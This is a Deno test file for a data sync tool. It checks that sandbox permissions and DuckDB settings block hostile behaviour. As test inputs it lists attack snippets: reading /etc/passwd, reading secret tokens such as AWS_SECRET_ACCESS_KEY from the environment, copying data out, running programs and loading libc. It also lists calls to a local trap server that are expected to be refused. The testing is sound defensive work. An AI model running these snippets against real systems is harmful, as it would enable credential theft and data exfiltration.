import { assert, assertEquals, assertMatch, assertRejects } from "@std/assert";
import { resources } from "../../generated/resources.ts";
import { Database } from "../../loader/engines/duckdb/database.ts";
import { DestinationError } from "../../loader/errors.ts";
import { createSandbox } from "../../sandbox/mod.ts";
import { duckdb } from "../lab.ts";
import { flagsOf, permissions, run, runOnTerminal, tasks } from "./process.ts";

for (
  const task of [
    "sync",
    "check",
    "status",
    "query",
    "models",
    "resources",
    "schema",
    "sandbox",
    "demo",
    "cron",
  ]
) {
  Deno.test(`the task ${task} may not run programs, nor read every variable`, () => {
    assertEquals(flagsOf(task).filter((flag) => /^(-A|--allow|-P)/.test(flag)), [`-P=${task}`]);
    for (const [kind, granted] of Object.entries(permissions[task]!)) {
      assertMatch(kind, /^(net|read|write|ffi|env)$/);
      assert(kind !== "env" || Array.isArray(granted), "every variable");
      assert(kind !== "write" || task === "check", "every file");
    }
  });
}

Deno.test("no task stops to ask for a permission", () => {
  for (const [task, { command }] of Object.entries(tasks)) {
    for (const [run] of command.matchAll(/\bdeno run\b[^&]*/g)) {
      assert(run.split(" ").includes("--no-prompt"), task);
    }
  }
});

const forbidden: readonly [string, string][] = [
  ["run a program", `new Deno.Command("true").outputSync()`],
  ["run this program again", `new Deno.Command(Deno.execPath()).outputSync()`],
  ["write a file", `Deno.writeTextFileSync("stolen", "")`],
  ["read a variable that is none of its own", `Deno.env.get("AWS_SECRET_ACCESS_KEY")`],
  ["list the environment", `Deno.env.toObject()`],
  ["ask for the machine's name", `Deno.hostname()`],
];
for (const [title, code] of forbidden) {
  Deno.test(`with the permissions of sync, no code can ${title}`, async () => {
    const module = `data:application/javascript,${
      encodeURIComponent(`try { ${code} } catch (error) { console.log(error.name); }`)
    }`;
    const { stdout } = await new Deno.Command(Deno.execPath(), {
      args: [...flagsOf("sync"), "--config", "deno.json", module],
    }).output();
    assertEquals(new TextDecoder().decode(stdout), "NotCapable\n");
  });
}

/** Serves every route and counts; what it is asked for is never wanted. */
function serveTrap() {
  const hits: string[] = [];
  const server = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, (request) => {
    hits.push(request.url);
    return Response.json({ results: [], hasMore: false });
  });
  const url = `http://127.0.0.1:${server.addr.port}`;
  return { url, hits, [Symbol.asyncDispose]: () => server.shutdown() };
}

const hostile = (folder: string, url: string): readonly [string, RegExp][] => [
  [`SELECT * FROM '${url}/stolen.csv'`, /disabled by configuration/],
  [`SELECT * FROM read_json('${url}/stolen.json')`, /disabled by configuration/],
  ["SELECT * FROM read_csv('/etc/passwd')", /disabled by configuration/],
  ["SELECT * FROM read_text('/etc/passwd')", /disabled by configuration/],
  ["SELECT * FROM glob('/etc/*')", /disabled by configuration/],
  [`ATTACH '${folder}/other.duckdb'`, /disabled by configuration/],
  [`COPY (SELECT 1) TO '${folder}/stolen.csv'`, /disabled by configuration/],
  [`EXPORT DATABASE '${folder}/stolen'`, /disabled by configuration/],
  ["INSTALL httpfs", /disabled by configuration/],
  ["LOAD httpfs", /disabled through configuration/],
  [`LOAD '${folder}/own.duckdb_extension'`, /disabled through configuration/],
  ["SET enable_external_access = true", /configuration has been locked/],
  ["SET autoload_known_extensions = true", /configuration has been locked/],
  ["PRAGMA enable_profiling = 'json'", /configuration has been locked/],
];

Deno.test("DuckDB opens no other file, host or extension, whatever it is sent", async (t) => {
  await using place = duckdb();
  await using trap = serveTrap();
  for (const readOnly of [false, true]) {
    const database = await Database.open(place.file, readOnly);
    for (const [sql, refusal] of hostile(place.folder, trap.url)) {
      const title = `${readOnly ? "read only: " : ""}${sql.replace(place.folder, "…")}`;
      await t.step(title, async () => {
        const error = await assertRejects(() => database.query(sql), DestinationError);
        assertMatch((error as Error).message, refusal);
      });
    }
    await database.close();
  }
  assertEquals([...Deno.readDirSync(place.folder)].map(({ name }) => name), ["lab.duckdb"]);
  assertEquals(trap.hits, []);
});

/** What a dependency that turns hostile may try in a sync; `trap` is the host of a server. */
const tricks: readonly string[] = [
  "await fetch(`http://${trap}/fetch`)",
  "await Deno.connect({ hostname: '127.0.0.1', port: Number(trap.split(':')[1]) })",
  "await import(`http://${trap}/module.js`)",
  "await import(['npm:left', 'pad'].join('-'))",
  "await new Promise((open, fail) => Object.assign(new WebSocket(`ws://${trap}`), { onopen: open, onerror: fail }))",
  "const { get } = await import('node:http'); await new Promise((open, fail) => get(`http://${trap}/node`, open).on('error', fail))",
  "const { connect } = await import('node:net'); await new Promise((open, fail) => connect(trap.split(':')[1], '127.0.0.1', open).on('error', fail))",
  "new Worker('data:application/javascript,', { type: 'module', deno: { permissions: { net: true } } })",
  "new Deno.Command('true').outputSync()",
  "const { execSync } = await import('node:child_process'); execSync('true')",
  "Deno.dlopen('libc.so.6', { system: { parameters: ['buffer'], result: 'i32' } })",
  "Deno.readTextFileSync('/etc/passwd')",
  "Deno.writeTextFileSync('stolen', '')",
  "Deno.env.get('BIGQUERY_ACCESS_TOKEN')",
  "Deno.env.get('WORKSPACE_API_TOKEN')",
];

/** The ways in which a sync may run. */
const ways = {
  "without a terminal": async (env: Record<string, string>, flags: readonly string[]) => {
    const { code, stderr } = await run(["sync", "--to", "duckdb::memory:"], env, flags);
    return { code, output: stderr };
  },
  "on a terminal": (env: Record<string, string>, flags: readonly string[]) =>
    runOnTerminal(["sync", "--to", "duckdb::memory:"], env, { flags }),
};

for (const [where, sync] of Object.entries(ways)) {
  Deno.test(
    `no dependency of a sync into a file can open another host, run a program or read a file: ${where}`,
    {
      ignore: where === "on a terminal" && Deno.build.os !== "linux",
    },
    async () => {
      await using api = createSandbox({ rows: 3 }).listen();
      await using trap = serveTrap();
      const { imports } = JSON.parse(await Deno.readTextFile("deno.json"));
      const hostile = `
      export { default } from "${imports["openapi-fetch"]}";
      const trap = "${new URL(trap.url).host}";
      for (const trick of ${JSON.stringify(tricks)}) {
        const AsyncFunction = (async () => {}).constructor;
        const done = await new AsyncFunction("trap", trick)(trap).then(() => "done", () => "refused");
        console.error(done + ": " + trick);
      }`;
      const folder = await Deno.makeTempDir();
      const map = `${folder}/imports.json`;
      const hostileImports = {
        ...imports,
        "openapi-fetch": `data:application/javascript,${encodeURIComponent(hostile)}`,
      };
      await Deno.writeTextFile(map, JSON.stringify({ imports: hostileImports }));
      const env = { WORKSPACE_API_URL: api.url, WORKSPACE_API_TOKEN: api.token };
      const { code, output } = await sync(env, ["--import-map", map]);
      await Deno.remove(folder, { recursive: true });
      const outcomes = output.split(/\r?\n/).filter((line) => /^(done|refused): /.test(line));
      assertEquals(outcomes, tricks.map((trick) => `refused: ${trick}`), output);
      assertEquals(trap.hits, []);
      assertEquals(code, 0, output);
    },
  );
}

Deno.test("a URL in an answer leads nowhere: every request goes to the route, on the API's origin", async () => {
  await using trap = serveTrap();
  const { path } = resources.clients;
  const cursor = `${trap.url}/../../x?a=b&startingAfter=1#c`;
  const asked: string[] = [];
  await using api = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, (request) => {
    if (new URL(request.url).pathname !== path) return Response.json({ id: trap.url, name: "w" });
    asked.push(request.url);
    const more = asked.length === 1;
    return Response.json({
      results: [{ id: more ? cursor : "last", name: trap.url, url: trap.url, $ref: trap.url }],
      hasMore: more,
      nextCursor: trap.url,
      next: trap.url,
      links: { next: trap.url },
    }, {
      headers: {
        location: trap.url,
        "content-location": trap.url,
        refresh: `0; url=${trap.url}`,
        link: `<${trap.url}>; rel="next"`,
        "alt-svc": `h2="${new URL(trap.url).host}"`,
      },
    });
  });
  const url = `http://127.0.0.1:${api.addr.port}`;
  const { code, stderr } = await run(
    ["sync", "--to", "duckdb::memory:", "--only", "clients"],
    { WORKSPACE_API_URL: url, WORKSPACE_API_TOKEN: "t" },
  );
  assertEquals(code, 0, stderr);
  const query = `limit=100&startingAfter=${encodeURIComponent(cursor)}`;
  assertEquals(asked, [`${url}${path}?limit=100`, `${url}${path}?${query}`]);
  assertEquals(trap.hits, []);
});

for (const status of [301, 302, 303, 307, 308]) {
  Deno.test(`a redirect to another origin is not followed: ${status}`, async () => {
    await using trap = serveTrap();
    await using api = Deno.serve(
      { port: 0, hostname: "127.0.0.1", onListen() {} },
      () => new Response(null, { status, headers: { location: `${trap.url}/x` } }),
    );
    const { code, stderr } = await run(
      ["sync", "--to", "duckdb::memory:", "--only", "clients"],
      { WORKSPACE_API_URL: `http://127.0.0.1:${api.addr.port}`, WORKSPACE_API_TOKEN: "a-token" },
    );
    assertEquals(code, 1);
    assertMatch(stderr, /redirects to http:\/\/127\.0\.0\.1:\d+, where the token is not sent/);
    assertEquals(trap.hits, []);
  });
}
